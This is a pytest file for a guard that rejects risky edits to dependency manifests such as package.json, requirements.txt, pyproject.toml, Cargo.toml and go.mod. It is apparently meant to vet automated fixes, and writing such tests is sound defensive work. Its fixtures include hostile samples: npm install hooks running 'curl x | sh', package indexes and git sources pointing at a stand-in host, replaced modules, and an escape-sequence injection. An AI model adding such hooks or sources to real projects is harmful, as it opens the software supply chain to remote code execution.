"""What a fix may not add to a dependency manifest, read as its package manager reads it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.fixes.manifest_guard import (
    dependency_kind,
    dependency_refusals,
    is_package_manager_settings,
    npm_spec_ok,
    requirement_problem,
)

REQUIREMENTS = """\
# web app
Django==5.0.1
psycopg[binary]>=3.1,<4  # the database
requests==2.31.0 \\
    --hash=sha256:58cd2187c01e70e6e26505bca751777aa9f2ee0b7f4300988b709f44e013003f
"""

PACKAGE_JSON = """\
{
  "name": "web",
  "version": "1.0.0",
  "scripts": {"start": "node server.js", "test": "jest"},
  "dependencies": {"express": "^4.18.2", "pg": "8.11.3"},
  "devDependencies": {"jest": "~29.7.0"}
}
"""

PYPROJECT = """\
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "web"
version = "1.0.0"
dependencies = ["django>=5.0", "psycopg[binary]>=3.1"]

[project.optional-dependencies]
dev = ["pytest>=8"]

[tool.poetry.dependencies]
python = "^3.11"
httpx = "^0.27"
"""

CARGO = """\
[package]
name = "web"
version = "0.1.0"
edition = "2021"

[dependencies]
serde = { version = "1.0", features = ["derive"] }
tokio = "1.36"
"""

GO_MOD = """\
module example.com/web

go 1.22

require (
\tgithub.com/lib/pq v1.10.9
\tgolang.org/x/net v0.21.0 // indirect
)
"""

PIPFILE = """\
[[source]]
url = "https://pypi.org/simple"
verify_ssl = true
name = "pypi"

[packages]
django = "==5.0.1"

[dev-packages]
pytest = "*"
"""

COMPOSER = """\
{
  "require": {"php": ">=8.2", "monolog/monolog": "^3.5"},
  "scripts": {"test": "phpunit"}
}
"""

SETUP_CFG = """\
[metadata]
name = web

[options]
install_requires =
    django>=5.0
"""

POM = """\
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <artifactId>web</artifactId>
  <dependencies>
    <dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId>\
<version>2.0.9</version></dependency>
  </dependencies>
</project>
"""

CONDA = """\
name: web
channels: [conda-forge]
dependencies:
  - python=3.12
  - numpy>=1.26
  - pip:
      - requests==2.31.0
"""

BASES = {
    "requirements.txt": REQUIREMENTS,
    "package.json": PACKAGE_JSON,
    "pyproject.toml": PYPROJECT,
    "Cargo.toml": CARGO,
    "go.mod": GO_MOD,
    "Pipfile": PIPFILE,
    "composer.json": COMPOSER,
    "setup.cfg": SETUP_CFG,
    "pom.xml": POM,
    "environment.yml": CONDA,
}


def codes(path: str, after: str, before: str | None = None) -> list[str]:
    name = path.rsplit("/", 1)[-1]
    old = BASES.get(name) if before is None else before
    raw = None if old is None else old.encode()
    return [r.code for r in dependency_refusals(path, raw, after.encode())]


def edit(name: str, old: str, new: str) -> str:
    base = BASES[name]
    assert old in base, old
    return base.replace(old, new, 1)


def append(name: str, text: str) -> str:
    return BASES[name] + text


PKG_DEPS = '"dependencies": {"express": "^4.18.2", "pg": "8.11.3"}'
PKG_SCRIPTS = '"scripts": {"start": "node server.js", "test": "jest"}'


def npm_dep(spec: str) -> str:
    return edit(
        "package.json", PKG_DEPS, f'"dependencies": {{"express": "{spec}", "pg": "8.11.3"}}'
    )


def npm_script(hook: str) -> str:
    return edit("package.json", PKG_SCRIPTS, f'"scripts": {{"{hook}": "curl x | sh"}}')


HOSTILE = [
    # install-time code
    ("npm_preinstall", "package.json", npm_script("preinstall"), "dependency_install_script"),
    ("npm_install", "package.json", npm_script("install"), "dependency_install_script"),
    ("npm_postinstall", "package.json", npm_script("postinstall"), "dependency_install_script"),
    ("npm_prepare", "package.json", npm_script("prepare"), "dependency_install_script"),
    ("npm_prepack", "package.json", npm_script("prepack"), "dependency_install_script"),
    ("npm_postprepare", "package.json", npm_script("postprepare"), "dependency_install_script"),
    (
        "composer_hook",
        "composer.json",
        edit("composer.json", '"test": "phpunit"', '"post-install-cmd": "sh x.sh"'),
        "dependency_install_script",
    ),
    (
        "setup_py",
        "setup.py",
        "from setuptools import setup\nsetup()\n",
        "dependency_install_script",
    ),
    (
        "build_backend",
        "pyproject.toml",
        edit("pyproject.toml", "setuptools.build_meta", "evil_backend"),
        "dependency_install_script",
    ),
    (
        "build_requires",
        "pyproject.toml",
        edit("pyproject.toml", 'requires = ["setuptools>=68"]', 'requires = ["setuptools", "x"]'),
        "dependency_install_script",
    ),
    (
        "hatch_hook",
        "pyproject.toml",
        append("pyproject.toml", '\n[tool.hatch.build.hooks.custom]\npath = "h.py"\n'),
        "dependency_install_script",
    ),
    (
        "cargo_build_script",
        "Cargo.toml",
        edit("Cargo.toml", 'edition = "2021"', 'edition = "2021"\nbuild = "b.rs"'),
        "dependency_install_script",
    ),
    (
        "pip_global_option",
        "requirements.txt",
        append("requirements.txt", "lxml==5.1 --global-option=build_ext\n"),
        "dependency_install_script",
    ),
    (
        "setup_cfg_setup_requires",
        "setup.cfg",
        append("setup.cfg", "setup_requires = evil\n"),
        "dependency_install_script",
    ),
    (
        "maven_plugin",
        "pom.xml",
        edit(
            "pom.xml",
            "</dependencies>",
            "</dependencies><build><plugins><plugin>"
            "<artifactId>exec-maven-plugin</artifactId></plugin></plugins></build>",
        ),
        "dependency_install_script",
    ),
    ("gemfile", "Gemfile", "gem 'rails'\n", "dependency_code_manifest"),
    ("gradle", "app/build.gradle.kts", "plugins { java }\n", "dependency_code_manifest"),
    # where packages come from
    (
        "pip_index_url",
        "requirements.txt",
        append("requirements.txt", "-i https://x.io/simple\n"),
        "dependency_index",
    ),
    (
        "pip_extra_index",
        "requirements.txt",
        append("requirements.txt", "--extra-index-url=https://x.io/simple\n"),
        "dependency_index",
    ),
    (
        "pip_find_links",
        "requirements.txt",
        append("requirements.txt", "-f https://x.io/wheels\n"),
        "dependency_index",
    ),
    (
        "pip_trusted_host",
        "requirements.txt",
        append("requirements.txt", "--trusted-host x.io\n"),
        "dependency_index",
    ),
    (
        "pip_include_url",
        "requirements.txt",
        append("requirements.txt", "-r https://x.io/r.txt\n"),
        "dependency_index",
    ),
    (
        "pip_include_outside",
        "requirements.txt",
        append("requirements.txt", "-c ../../c.txt\n"),
        "dependency_index",
    ),
    (
        "pip_unknown_option",
        "requirements.txt",
        append("requirements.txt", "--use-deprecated x\n"),
        "dependency_index",
    ),
    (
        "poetry_source",
        "pyproject.toml",
        append("pyproject.toml", '\n[[tool.poetry.source]]\nname = "x"\nurl = "https://x.io"\n'),
        "dependency_index",
    ),
    (
        "uv_index_url",
        "pyproject.toml",
        append("pyproject.toml", '\n[tool.uv]\nindex-url = "https://x.io/simple"\n'),
        "dependency_index",
    ),
    (
        "pdm_source",
        "pyproject.toml",
        append("pyproject.toml", '\n[[tool.pdm.source]]\nname = "x"\nurl = "https://x.io"\n'),
        "dependency_index",
    ),
    (
        "npm_publish_config",
        "package.json",
        edit(
            "package.json",
            '"version": "1.0.0",',
            '"version": "1.0.0", "publishConfig": {"registry": "https://x.io"},',
        ),
        "dependency_index",
    ),
    (
        "pipfile_source",
        "Pipfile",
        edit("Pipfile", "https://pypi.org/simple", "https://x.io/simple"),
        "dependency_index",
    ),
    (
        "cargo_patch",
        "Cargo.toml",
        append("Cargo.toml", '\n[patch.crates-io]\nserde = { git = "https://x.io/serde" }\n'),
        "dependency_index",
    ),
    (
        "cargo_registry",
        "Cargo.toml",
        edit("Cargo.toml", 'tokio = "1.36"', 'tokio = { version = "1.36", registry = "x" }'),
        "dependency_index",
    ),
    (
        "go_replace_module",
        "go.mod",
        append("go.mod", "\nreplace github.com/lib/pq => github.com/evil/pq v1.0.0\n"),
        "dependency_index",
    ),
    (
        "composer_repositories",
        "composer.json",
        edit(
            "composer.json",
            '"require"',
            '"repositories": [{"type": "vcs", "url": "https://x.io"}], "require"',
        ),
        "dependency_index",
    ),
    (
        "conda_channel",
        "environment.yml",
        edit("environment.yml", "[conda-forge]", "[conda-forge, evil]"),
        "dependency_index",
    ),
    (
        "maven_repository",
        "pom.xml",
        edit(
            "pom.xml",
            "<dependencies>",
            "<repositories><repository><url>https://x.io</url>"
            "</repository></repositories><dependencies>",
        ),
        "dependency_index",
    ),
    # packages from elsewhere than the index
    (
        "pip_git",
        "requirements.txt",
        append("requirements.txt", "git+https://x.io/pkg.git#egg=pkg\n"),
        "dependency_remote_source",
    ),
    (
        "pip_url",
        "requirements.txt",
        append("requirements.txt", "https://x.io/pkg-1.0.tar.gz\n"),
        "dependency_remote_source",
    ),
    (
        "pip_direct_reference",
        "requirements.txt",
        append("requirements.txt", "pkg @ https://x.io/pkg.whl\n"),
        "dependency_remote_source",
    ),
    (
        "pip_file",
        "requirements.txt",
        append("requirements.txt", "file:///tmp/pkg\n"),
        "dependency_remote_source",
    ),
    (
        "pip_local_path",
        "requirements.txt",
        append("requirements.txt", "./vendor/pkg\n"),
        "dependency_remote_source",
    ),
    (
        "pip_editable",
        "requirements.txt",
        append("requirements.txt", "-e ../pkg\n"),
        "dependency_remote_source",
    ),
    (
        "pip_variable",
        "requirements.txt",
        append("requirements.txt", "pkg==${VERSION}\n"),
        "dependency_remote_source",
    ),
    (
        "npm_git",
        "package.json",
        npm_dep("git+https://x.io/express.git"),
        "dependency_remote_source",
    ),
    ("npm_github", "package.json", npm_dep("github:evil/express"), "dependency_remote_source"),
    ("npm_user_repo", "package.json", npm_dep("evil/express#main"), "dependency_remote_source"),
    (
        "npm_tarball",
        "package.json",
        npm_dep("https://x.io/express.tgz"),
        "dependency_remote_source",
    ),
    ("npm_file", "package.json", npm_dep("file:../express"), "dependency_remote_source"),
    ("npm_link", "package.json", npm_dep("link:../express"), "dependency_remote_source"),
    (
        "npm_override",
        "package.json",
        edit(
            "package.json",
            '"version": "1.0.0",',
            '"version": "1.0.0", "overrides": {"qs": "github:x/qs"},',
        ),
        "dependency_remote_source",
    ),
    (
        "pyproject_direct_reference",
        "pyproject.toml",
        edit("pyproject.toml", '"django>=5.0"', '"django @ git+https://x.io/django"'),
        "dependency_remote_source",
    ),
    (
        "poetry_git",
        "pyproject.toml",
        edit("pyproject.toml", 'httpx = "^0.27"', 'httpx = { git = "https://x.io/httpx.git" }'),
        "dependency_remote_source",
    ),
    (
        "poetry_path",
        "pyproject.toml",
        edit("pyproject.toml", 'httpx = "^0.27"', 'httpx = { path = "../httpx" }'),
        "dependency_remote_source",
    ),
    (
        "uv_source_url",
        "pyproject.toml",
        append("pyproject.toml", '\n[tool.uv.sources]\ndjango = { url = "https://x.io/d.whl" }\n'),
        "dependency_remote_source",
    ),
    (
        "pipfile_git",
        "Pipfile",
        edit("Pipfile", 'django = "==5.0.1"', 'django = { git = "https://x.io/django.git" }'),
        "dependency_remote_source",
    ),
    (
        "cargo_git",
        "Cargo.toml",
        edit("Cargo.toml", 'tokio = "1.36"', 'tokio = { git = "https://x.io/tokio" }'),
        "dependency_remote_source",
    ),
    (
        "cargo_path",
        "Cargo.toml",
        edit("Cargo.toml", 'tokio = "1.36"', 'tokio = { path = "../tokio" }'),
        "dependency_remote_source",
    ),
    (
        "go_replace_path",
        "go.mod",
        append("go.mod", "\nreplace github.com/lib/pq => ../pq\n"),
        "dependency_remote_source",
    ),
    (
        "conda_pip_git",
        "environment.yml",
        edit("environment.yml", "- requests==2.31.0", "- git+https://x.io/requests"),
        "dependency_remote_source",
    ),
    # parse problems and locks
    (
        "package_json_broken",
        "package.json",
        PACKAGE_JSON.replace("}", "", 1),
        "dependency_unreadable",
    ),
    (
        "pyproject_broken",
        "pyproject.toml",
        append("pyproject.toml", "[project\n"),
        "dependency_unreadable",
    ),
    ("cargo_broken", "Cargo.toml", append("Cargo.toml", "tokio = \n"), "dependency_unreadable"),
    ("pipfile_broken", "Pipfile", append("Pipfile", "[[source\n"), "dependency_unreadable"),
    ("go_mod_unknown_directive", "go.mod", append("go.mod", "fetch x\n"), "dependency_unreadable"),
    ("npm_lock", "package-lock.json", '{"lockfileVersion": 3}\n', "dependency_lock_edited"),
    ("go_sum", "go.sum", "github.com/lib/pq v1.10.9 h1:x=\n", "dependency_lock_edited"),
    ("npmrc", ".npmrc", "registry=https://x.io/\n", "dependency_settings"),
    ("pip_conf", "deploy/pip.conf", "[global]\nindex-url = https://x.io\n", "dependency_settings"),
    ("cargo_config", ".cargo/config.toml", "[source.crates-io]\n", "dependency_settings"),
]


@pytest.mark.parametrize(
    ("path", "after", "code"),
    [pytest.param(path, after, code, id=name) for name, path, after, code in HOSTILE],
)
def test_a_hostile_manifest_edit_is_refused(path: str, after: str, code: str) -> None:
    assert code in codes(path, after)


HARMLESS = [
    (
        "requirements_bump",
        "requirements.txt",
        edit("requirements.txt", "Django==5.0.1", "Django==5.0.2"),
    ),
    (
        "requirements_new",
        "requirements.txt",
        append("requirements.txt", "redis[hiredis]~=5.0; python_version >= '3.8'\n"),
    ),
    (
        "requirements_include",
        "requirements.txt",
        append("requirements.txt", "-r requirements-base.txt\n--pre\n"),
    ),
    ("package_json_bump", "package.json", npm_dep("^4.19.0")),
    (
        "package_json_new",
        "package.json",
        edit(
            "package.json",
            '"pg": "8.11.3"',
            '"pg": "8.11.3", "@types/node": "20.x", "left": "npm:left-pad@^1.3.0"',
        ),
    ),
    (
        "package_json_script",
        "package.json",
        edit("package.json", '"test": "jest"', '"test": "jest --ci", "lint": "eslint ."'),
    ),
    (
        "pyproject_bump",
        "pyproject.toml",
        edit("pyproject.toml", '"django>=5.0"', '"django>=5.0.2,<6"'),
    ),
    (
        "pyproject_extra",
        "pyproject.toml",
        edit("pyproject.toml", 'dev = ["pytest>=8"]', 'dev = ["pytest>=8", "ruff==0.5.0"]'),
    ),
    (
        "poetry_bump",
        "pyproject.toml",
        edit(
            "pyproject.toml", 'httpx = "^0.27"', 'httpx = { version = "^0.28", extras = ["http2"] }'
        ),
    ),
    (
        "cargo_bump",
        "Cargo.toml",
        edit("Cargo.toml", 'tokio = "1.36"', 'tokio = { version = "1.37", features = ["full"] }'),
    ),
    ("go_require_bump", "go.mod", edit("go.mod", "pq v1.10.9", "pq v1.10.10")),
    ("go_require_new", "go.mod", append("go.mod", "\nrequire github.com/google/uuid v1.6.0\n")),
    (
        "go_replace_same_module",
        "go.mod",
        append("go.mod", "\nreplace golang.org/x/net => golang.org/x/net v0.22.0\n"),
    ),
    ("pipfile_bump", "Pipfile", edit("Pipfile", '"==5.0.1"', '"==5.0.2"')),
    ("composer_bump", "composer.json", edit("composer.json", '"^3.5"', '"^3.6"')),
    (
        "setup_cfg_bump",
        "setup.cfg",
        edit("setup.cfg", "django>=5.0", "django>=5.0.2\n    redis>=5"),
    ),
    ("pom_bump", "pom.xml", edit("pom.xml", "2.0.9", "2.0.12")),
    ("conda_bump", "environment.yml", edit("environment.yml", "numpy>=1.26", "numpy>=1.26.4")),
]


@pytest.mark.parametrize(
    ("path", "after"),
    [pytest.param(path, after, id=name) for name, path, after in HARMLESS],
)
def test_a_harmless_manifest_edit_passes(path: str, after: str) -> None:
    assert codes(path, after) == []


def test_what_was_there_before_is_not_refused_again() -> None:
    before = append("requirements.txt", "--extra-index-url https://internal/simple\n")
    after = before.replace("Django==5.0.1", "Django==5.0.2")
    assert codes("requirements.txt", after, before) == []
    hooked = npm_script("postinstall")
    assert codes("package.json", hooked.replace("1.0.0", "1.0.1"), hooked) == []


def test_removing_an_install_hook_is_not_refused() -> None:
    assert codes("package.json", PACKAGE_JSON, npm_script("postinstall")) == []


def test_a_new_manifest_is_checked_whole() -> None:
    assert codes("api/requirements.txt", "-i https://x.io\nflask\n", "") == ["dependency_index"]
    assert dependency_refusals("api/requirements.txt", None, b"flask==3.0\n") == []


def test_deleting_a_manifest_adds_nothing() -> None:
    assert dependency_refusals("package.json", PACKAGE_JSON.encode(), None) == []


def test_other_files_are_not_checked() -> None:
    assert dependency_refusals("app/main.py", b"x = 1\n", b"x = 2\n") == []


def test_messages_name_the_file_and_escape_the_model_text() -> None:
    after = npm_dep("github:evil/\\u001b[2Jexpress")  # JSON for ESC
    (refusal,) = dependency_refusals("web/package.json", PACKAGE_JSON.encode(), after.encode())
    assert refusal.path == "web/package.json"
    assert "\x1b" not in refusal.message
    assert refusal.message.startswith("web/package.json: dependencies express would come from")


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("requirements.txt", "pip-requirements"),
        ("requirements-dev.txt", "pip-requirements"),
        ("dev-requirements.in", "pip-requirements"),
        ("requirements/base.txt", "pip-requirements"),
        ("constraints.txt", "pip-requirements"),
        ("api/pyproject.toml", "pyproject"),
        ("setup.py", "setup-py"),
        ("setup.cfg", "setup-cfg"),
        ("Pipfile", "pipfile"),
        ("poetry.lock", "poetry-lock"),
        ("web/package.json", "npm-package"),
        ("package-lock.json", "npm-lock"),
        ("yarn.lock", "yarn-lock"),
        ("pnpm-lock.yaml", "pnpm-lock"),
        ("go.mod", "go-mod"),
        ("go.sum", "go-sum"),
        ("Cargo.toml", "cargo"),
        ("Cargo.lock", "cargo-lock"),
        ("Gemfile", "gemfile"),
        ("Gemfile.lock", "gemfile-lock"),
        ("composer.json", "composer"),
        ("pom.xml", "maven-pom"),
        ("build.gradle", "gradle"),
        ("app/App.csproj", "nuget"),
        ("PACKAGE.JSON", "npm-package"),
        ("app/main.py", None),
        ("docs/requirements.md", None),
        ("README.md", None),
    ],
)
def test_manifests_are_recognised_by_name(path: str, kind: str | None) -> None:
    assert dependency_kind(path) == kind


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (".npmrc", True),
        ("web/.yarnrc.yml", True),
        (".pnpmfile.cjs", True),
        ("pip.conf", True),
        ("PIP.INI", True),
        (".pypirc", True),
        (".condarc", True),
        ("poetry.toml", True),
        ("uv.toml", True),
        (".cargo/config", True),
        (".cargo/config.toml", True),
        ("NuGet.Config", True),
        (".bundle/config", True),
        (".m2/settings.xml", True),
        (".mvn/wrapper/maven-wrapper.properties", True),
        ("gradle.properties", True),
        ("bunfig.toml", True),
        (".yarn/releases/yarn-4.1.0.cjs", True),
        ("package.json", False),
        ("settings.xml", False),
        ("app/config.toml", False),
    ],
)
def test_package_manager_settings_are_recognised(path: str, expected: bool) -> None:
    assert is_package_manager_settings(path) is expected


@pytest.mark.parametrize(
    ("spec", "ok"),
    [
        ("^1.2.3", True),
        (">=1.0.0 <2", True),
        ("1.x || 2.x", True),
        ("latest", True),
        ("npm:@scope/pkg@^2", True),
        ("workspace:*", True),
        ("evil/pkg", False),
        ("git://x.io/y", False),
        ("portal:../x", False),
        ("exec:./build.js", False),
    ],
)
def test_npm_specs_from_the_registry_only(spec: str, ok: bool) -> None:
    assert npm_spec_ok(spec) is ok


def test_pep508_requirements_from_the_index_only() -> None:
    assert requirement_problem("Django[argon2]>=5,<6; python_version>'3.10'") is None
    assert requirement_problem("django (>=5.0)") is None
    problem = requirement_problem("django @ https://x.io/d.whl")
    assert problem is not None and problem[0] == "dependency_remote_source"


PIECES = st.sampled_from(
    [
        *("{", "}", "[", "]", '"', "=", ":", ",", "\n", " ", "-r ", "-e ", "git+", "https://"),
        *("@", "1.0", "(", ")", "=>", "replace ", "require ", "<a>", "</a>", "<!DOCTYPE", "- "),
        "\\\n",
    ]
)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(sorted(BASES)), st.lists(PIECES, max_size=30).map("".join), st.integers(0, 600)
)
def test_any_edit_gives_refusals_never_an_exception(name: str, junk: str, at: int) -> None:
    base = BASES[name]
    after = base[:at] + junk + base[at:]
    for old, new in ((base, after), (after, base)):
        refusals = dependency_refusals(name, old.encode(), new.encode())
        assert all(r.code.startswith("dependency_") for r in refusals)
